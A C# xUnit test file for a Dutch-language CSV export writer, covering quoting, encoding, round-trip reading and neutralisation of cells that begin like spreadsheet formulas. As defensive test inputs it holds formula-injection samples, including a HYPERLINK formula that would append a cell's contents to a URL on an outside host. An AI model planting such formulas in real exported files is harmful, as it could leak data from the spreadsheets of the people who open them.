using System.Text;
using KenJeKlant.Bestand;
using static KenJeKlant.Tests.Bestand.BestandTestHulp;

namespace KenJeKlant.Tests.Bestand;

/// <summary>The export format: quoting, formula neutralisation, encoding, and reading it back.</summary>
public class CsvSchrijverTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"https://example.org/?\"&A2)")]
    [InlineData("+31 6 12345678")]
    [InlineData("-5")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void EenCelDieAlsFormuleBegintKrijgtEenApostrof(string waarde)
    {
        var tekst = Schrijf(["klantnummer", "naam"], ["K1", waarde]);

        var verwacht = "\"'" + waarde.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        Assert.Equal("klantnummer;naam\r\nK1;" + verwacht + "\r\n", tekst);
    }

    [Theory]
    [InlineData("Jansen")]
    [InlineData("Haarlem-Noord")]
    [InlineData("12-03-1980")]
    [InlineData("a=b")]
    [InlineData("'=1+1")]
    [InlineData("")]
    public void AndereCellenBlijvenZoalsZeZijn(string waarde)
    {
        var tekst = Schrijf(["klantnummer", "naam"], ["K1", waarde]);

        Assert.Equal("klantnummer;naam\r\nK1;" + waarde + "\r\n", tekst);
    }

    [Fact]
    public void AanhalingstekensScheidingstekensEnRegeleindenWordenAangehaald()
    {
        var tekst = Schrijf(["a", "b", "c", "d"], ["Vries; de", "O\"Brien", "Haarlem\r\nNoord", "Jansen, P."]);

        Assert.Equal("a;b;c;d\r\n\"Vries; de\";\"O\"\"Brien\";\"Haarlem\r\nNoord\";Jansen, P.\r\n", tekst);
    }

    [Fact]
    public async Task WatWeSchrijvenLeestOnzeLezerTerug()
    {
        string[] naamEnWijk = ["Vries; de, \"Anna\"", "Haarlem\r\nNoord; \"oost\""];
        var rijen = new[]
        {
            Rij(GeldigeRij("K1").Met("naam", naamEnWijk[0]).Met("wijk", naamEnWijk[1])),
            Rij(GeldigeRij("K2").Met("naam", "=1+1").Met("wijk", "-Noord")),
            Rij(GeldigeRij("K3").Met("naam", "Zoë \"Joë\" Ruïz\nvan Dijk")),
        };
        using var stream = new MemoryStream();
        await CsvSchrijver.SchrijfAsync(stream, [.. GeldigeRij().Keys], rijen);

        var gelezen = await LeesRijenAsync(stream.ToArray());

        Assert.Equal(naamEnWijk[0], gelezen[0].Klant?.Naam);
        Assert.Equal(naamEnWijk[1], gelezen[0].Klant?.Wijk);
        // The neutralised cell reads back with its apostrophe, and so no longer looks like a formula.
        Assert.Equal("'=1+1", gelezen[1].Klant?.Naam);
        Assert.Equal("'-Noord", gelezen[1].Klant?.Wijk);
        Assert.Empty(gelezen[1].Waarschuwingen);
        Assert.Equal("Zoë \"Joë\" Ruïz\nvan Dijk", gelezen[2].Klant?.Naam);
        // The first row spans lines 2 and 3.
        Assert.Equal([2, 4, 5], gelezen.Select(r => r.Regel));
    }

    [Fact]
    public void EenStreamKrijgtUtf8MetBomEenTextWriterZijnEigenCodering()
    {
        using var stream = new MemoryStream();
        using (var schrijver = new CsvSchrijver(stream))
        {
            schrijver.SchrijfRij(["naam"]);
            schrijver.SchrijfRij(["René"]);
        }
        using var tekst = new StringWriter();
        using (var schrijver = new CsvSchrijver(tekst))
        {
            schrijver.SchrijfRij(["naam"]);
            schrijver.SchrijfRij(["René"]);
        }

        Assert.Equal([.. CsvSchrijver.Codering.GetPreamble(), .. Encoding.UTF8.GetBytes("naam\r\nRené\r\n")], stream.ToArray());
        Assert.Equal("naam\r\nRené\r\n", tekst.ToString());
    }

    [Fact]
    public async Task AsynchroneRijenGevenDezelfdeBytesAlsSynchroon()
    {
        string[] kop = ["klantnummer", "naam"];
        string[][] rijen = [["K1", "=x"], ["K2", "Vries; de"], ["K3", ""]];
        using var synchroon = new MemoryStream();
        using (var schrijver = new CsvSchrijver(synchroon))
        {
            schrijver.SchrijfRij(kop);
            foreach (var rij in rijen)
            {
                schrijver.SchrijfRij(rij);
            }
        }
        using var asynchroon = new MemoryStream();

        await CsvSchrijver.SchrijfAsync(asynchroon, kop, AlsAsync(rijen));

        Assert.Equal(synchroon.ToArray(), asynchroon.ToArray());
    }

    [Fact]
    public void EenRijMetEenAnderAantalVeldenDanDeKopregelWordtGeweigerd()
    {
        using var schrijver = new CsvSchrijver(new StringWriter());
        schrijver.SchrijfRij(["a", "b"]);

        Assert.Throws<InvalidOperationException>(() => schrijver.SchrijfRij(["x"]));
    }

    private static string Schrijf(string[] kop, params string[][] rijen)
    {
        using var tekst = new StringWriter();
        using (var schrijver = new CsvSchrijver(tekst))
        {
            schrijver.SchrijfRij(kop);
            foreach (var rij in rijen)
            {
                schrijver.SchrijfRij(rij);
            }
        }
        return tekst.ToString();
    }

    private static string[] Rij(Dictionary<string, string> rij) => [.. rij.Values];

    private static async IAsyncEnumerable<string[]> AlsAsync(IEnumerable<string[]> rijen)
    {
        foreach (var rij in rijen)
        {
            await Task.Yield();
            yield return rij;
        }
    }
}
